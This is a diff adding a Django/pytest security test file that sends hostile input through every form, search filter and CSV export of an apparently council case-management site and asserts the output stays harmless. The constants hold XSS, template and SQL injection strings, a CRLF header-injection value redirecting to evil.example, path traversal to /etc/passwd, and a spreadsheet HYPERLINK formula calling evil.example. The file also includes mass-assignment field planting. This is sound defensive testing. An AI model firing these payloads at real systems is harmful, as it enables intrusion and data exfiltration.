@@ -1,0 +1,318 @@
+"""What a hostile hand can type into any field of any form of the site."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from django import forms
+from django.db import transaction
+from django.db.models import Model
+from django.forms.formsets import BaseFormSet
+from django.test import Client
+from django.urls import reverse
+
+from families.models import Family
+from govuk.forms import GovukForm, GovukModelForm, clean_text
+from govuk.spreadsheets import harmless
+from tests.cpconf.told import told_once, world
+from tests.world import address_of, patterns
+
+__all__ = ["told_once", "world"]
+
+pytestmark = pytest.mark.django_db
+
+MARK = "zaunkoenig"
+MARKUP = f"{MARK}\"'><script>alert({MARK!r})</script><img src=x onerror=alert(1)>&lt;b&gt;"
+TEMPLATE = "{{ 7|add:42 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>"
+STATEMENT = "'; DROP TABLE families_person; --\\'); SELECT pg_sleep(9); --"
+HEADER = "name\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/\r\n\r\n<html>"
+PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
+FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
+UNSEEN = "a\x00b\x08c\u202egnp.exe\u200b\u2066\ufeff\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
+LONG = "x" * 120_000
+HOSTILE = {
+    "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
+    "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
+    "what can't be seen": UNSEEN,
+    "very long": LONG,
+}
+# Who is asked first for a page: those who may open most.
+WHO = (
+    "own coordinator",
+    "own chair",
+    "own social worker",
+    "own team manager",
+    "service manager",
+    "administrator",
+)
+
+
+def forms_in(context: Any) -> Iterator[forms.BaseForm]:
+    """Every form that a page was drawn with, those within sets of rows included."""
+    seen: set[int] = set()
+    for layer in context or []:
+        for thing in list(getattr(layer, "flatten", lambda layer=layer: layer)().values()):
+            found = list(thing.forms) if isinstance(thing, BaseFormSet) else [thing]
+            for form in found:
+                if isinstance(form, forms.BaseForm) and id(form) not in seen:
+                    seen.add(id(form))
+                    yield form
+
+
+def filled(form: forms.BaseForm, text: str) -> dict[str, Any]:
+    """The form as a hostile hand would send it: real choices and days, and ``text`` wherever one can type."""
+    data: dict[str, Any] = {}
+    for bound in form:
+        name, field = bound.html_name, bound.field
+        if isinstance(field, forms.FileField):
+            continue
+        if isinstance(field, forms.MultiValueField) or hasattr(field.widget, "widgets"):
+            parts = {"day": "16", "month": "12", "year": "2026"}
+            data |= {f"{name}_{part}": value for part, value in parts.items()}
+            continue
+        choices = [value for value, _ in _flat(getattr(field, "choices", []) or []) if str(value)]
+        if choices:
+            many = isinstance(field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField)
+            first = str(choices[0].value if hasattr(choices[0], "value") else choices[0])
+            data[name] = [first] if many else first
+        elif isinstance(field, forms.IntegerField | forms.DecimalField):
+            data[name] = str(bound.value() or 1)
+        elif isinstance(field, forms.BooleanField):
+            data[name] = "on"
+        else:
+            data[name] = text
+    return data
+
+
+def _flat(choices: Any) -> Iterator[tuple[Any, Any]]:
+    for choice in choices:
+        value, label = (choice[0], choice[1]) if isinstance(choice, tuple | list) else (choice.value, choice)
+        if isinstance(label, tuple | list):
+            yield from _flat(label)
+        else:
+            yield value, label
+
+
+def undone(act: Any) -> Any:
+    before = transaction.savepoint()
+    try:
+        return act()
+    finally:
+        transaction.savepoint_rollback(before)
+
+
+def clients(world: SimpleNamespace) -> dict[str, Client]:
+    found = {who: Client() for who in WHO}
+    for who, client in found.items():
+        client.force_login(world.actors[who])
+    return found
+
+
+@pytest.fixture
+def forms_of_the_site(world: SimpleNamespace) -> list[tuple[str, str, Client, list[forms.BaseForm]]]:
+    """Every page with a form, with the first person who may open it."""
+    found = []
+    signed_in = clients(world)
+    for name, pattern in patterns():
+        address = address_of(world, name, pattern)
+        for client in signed_in.values():
+            answer = undone(lambda c=client, a=address: c.get(a))
+            on_page = list(forms_in(answer.context)) if answer.status_code == 200 else []
+            if on_page:
+                found.append((name, address, client, on_page))
+                break
+    assert len(found) > 60
+    return found
+
+
+def wrong_with(answer: Any) -> list[str]:
+    """What a page may never hold, whatever was typed."""
+    page = answer.content.decode(errors="replace") if not answer.streaming else ""
+    faults = []
+    if answer.status_code >= 500:
+        faults.append("fault")
+    if f"<script>alert({MARK!r})" in page or "<img src=x onerror" in page:
+        faults.append("markup")
+    if MARK in page and re.search(r"(?<!7\|add:)\b49\b(?! ?(px|%))", page.partition(MARK)[2][:200]):
+        faults.append("template")
+    if "planted" in answer.cookies or "evil.example" in answer.get("Location", ""):
+        faults.append("header")
+    if "root:x:0" in page or "; for 16-bit app support" in page:
+        faults.append("path")
+    if "\x00" in page:
+        faults.append("unseen")
+    return faults
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_no_form_of_the_site_lets_through_what_a_hostile_hand_types(forms_of_the_site, text):
+    """Each form of each page is sent; the answer, the page it leads to and the page itself stay harmless."""
+    found, sent = [], 0
+
+    def send(client: Client, address: str, data: dict[str, Any]) -> list[Any]:
+        answers = [client.post(address, data)]
+        location = answers[0].get("Location", "")
+        if location.startswith("/"):
+            answers.append(client.get(location.partition("#")[0]))
+        answers.append(client.get(address))
+        return answers
+
+    for name, address, client, on_page in forms_of_the_site:
+        data: dict[str, Any] = {}
+        for form in on_page:
+            data |= filled(form, text)
+        answers = undone(lambda c=client, a=address, d=data: send(c, a, d))
+        sent += 1
+        found += [(name, fault) for answer in answers for fault in wrong_with(answer)]
+    assert (found, sent > 60, Family.objects.exists()) == ([], True, True)
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_no_search_or_filter_lets_it_through_either(world, text):
+    found = []
+    client = clients(world)["own coordinator"]
+    manager = clients(world)["service manager"]
+    short = text[:3000]
+    for name, pattern in patterns():
+        address = address_of(world, name, pattern)
+        asked = dict.fromkeys(("q", "page", "name", "born_on_0", "team", "sort", "on", "kind"), short)
+        for one in (client, manager):
+            found += [
+                (name, fault) for fault in wrong_with(undone(lambda c=one, a=address, d=asked: c.get(a, d)))
+            ]
+    assert found == []
+
+
+def subclasses(kind: type) -> set[type]:
+    return {kind} | {grandchild for child in kind.__subclasses__() for grandchild in subclasses(child)}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_every_kind_of_form_judges_hostile_text_without_falling_over(text):
+    """Also those of pages that this world does not show."""
+    tried = 0
+    for kind in sorted(
+        subclasses(GovukForm) | subclasses(GovukModelForm), key=lambda kind: kind.__qualname__
+    ):
+        if kind in {GovukForm, GovukModelForm}:
+            continue
+        try:
+            empty = kind()
+        except TypeError:
+            # Wants its page around it; the walk over the pages has sent it.
+            continue
+        form = kind(filled(empty, text))
+        form.is_valid()
+        tried += 1
+        cleaned = [value for value in form.cleaned_data.values() if isinstance(value, str)]
+        assert [value for value in cleaned if "\x00" in value or "\r" in value] == [], kind
+    assert tried > 15
+
+
+def test_control_characters_go_and_every_script_stays():
+    assert clean_text("a\x00b\x1b[31m\r\nc") == "ab[31m\nc"
+    assert clean_text("שלום عربى Łódź 👩‍👩‍👧") == "שלום عربى Łódź 👩‍👩‍👧"
+
+
+# Mass assignment
+
+
+def test_fields_that_a_form_does_not_show_are_ignored(forms_of_the_site, world):
+    """Every column of every model is sent beside each form; who, when, whose and in which state stay as they were."""
+    planted = {
+        "id": "987654321", "pk": "987654321", "authority": str(world.elsewhere.pk), "is_superuser": "1", "is_staff": "1",
+        "state": "released", "status": "closed", "released_at": "2020-01-01", "decided_by": "1", "begun_by": "1",
+        "by": "1", "user": "1", "submitted_by": "1", "agreed_by": "1", "agreed_at": "2020-01-01", "sealed_at": "2020-01-01",
+        "restricted": "on", "withdrawn_at": "2020-01-01", "conference": "987654321", "family": "987654321",
+        "team": "987654321", "case_number": "planted", "recorded_by": "1", "uploaded_by": "1", "scan": "clean",
+    }  # fmt: skip
+    kept = {
+        world.family._meta.model: world.family.pk,
+        type(world.conference): world.conference.pk,
+        type(world.draft): world.draft.pk,
+    }
+    found = []
+    for name, address, client, on_page in forms_of_the_site:
+        shown = {bound.html_name for form in on_page for bound in form}
+        extra = {key: value for key, value in planted.items() if key not in shown}
+        before = transaction.savepoint()
+        was = rows(kept)
+        client.post(address, extra)
+        found += [(name, change) for change in planted_in(was, rows(kept), extra)]
+        transaction.savepoint_rollback(before)
+    assert found == []
+
+
+def rows(kept: dict[type[Model], int]) -> dict[type[Model], dict[str, Any]]:
+    return {model: model.objects.values().get(pk=pk) for model, pk in kept.items()}
+
+
+def planted_in(was: dict, now: dict, extra: dict[str, str]) -> list[str]:
+    """Columns that changed, and that the form does not show."""
+    return [
+        f"{model.__name__}.{column}"
+        for model, row in now.items()
+        for column, value in row.items()
+        if value != was[model][column] and column.removesuffix("_id") in extra
+    ]
+
+
+@pytest.mark.parametrize("version", ["0", "-1", "99999999999999999999", "abc", "1; DROP TABLE x", ""])
+def test_a_tampered_version_changes_nothing_and_breaks_nothing(world, version):
+    section, client = world.section, clients(world)["own coordinator"]
+    address = reverse("reports:change-section", args=[world.conference.pk, world.of.tutor.pk, section.pk])
+    before = section.text
+    data = {
+        "heading": "current-risks", "text": "Something else", "nature": "fact", "children": ["all"], "version": version,
+    }  # fmt: skip
+    answer = client.post(address, data)
+    section.refresh_from_db()
+    assert (answer.status_code < 500, section.text) == (True, before)
+
+
+def test_hidden_fields_with_numbers_of_another_council_are_refused(world, forms_of_the_site):
+    """Every choice and hidden number is replaced by one that exists nowhere: no page breaks, nothing is written."""
+    found = []
+    for name, address, client, on_page in forms_of_the_site:
+        data: dict[str, Any] = {}
+        for form in on_page:
+            data |= {key: ["987654321"] for key in filled(form, "x")}
+        answer = undone(lambda c=client, a=address, d=data: c.post(a, d))
+        if answer.status_code >= 500:
+            found.append(name)
+    assert found == []
+
+
+# Files for spreadsheets
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
+def test_no_cell_of_a_file_begins_a_formula(start):
+    assert str(harmless(f"{start}1+1")).startswith("'")
+
+
+def test_every_file_for_spreadsheets_passes_its_cells_through_that(world):
+    world.robin.person.given_name = FORMULA
+    world.robin.person.save()
+    found, files = [], 0
+    for who in world.actors:
+        client = Client()
+        client.force_login(world.actors[who])
+        for name, pattern in patterns():
+            address = address_of(world, name, pattern)
+            if not re.search(r"csv|export|table|download", name + address):
+                continue
+            answer = undone(lambda c=client, a=address: c.get(a))
+            if answer.get("Content-Type", "").startswith("text/csv"):
+                files += 1
+                told = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
+                found += [
+                    (name, cell) for row in told for cell in row if cell.lstrip().startswith(("=", "@", "+"))
+                ]
+    assert (found, files > 0) == ([], True)
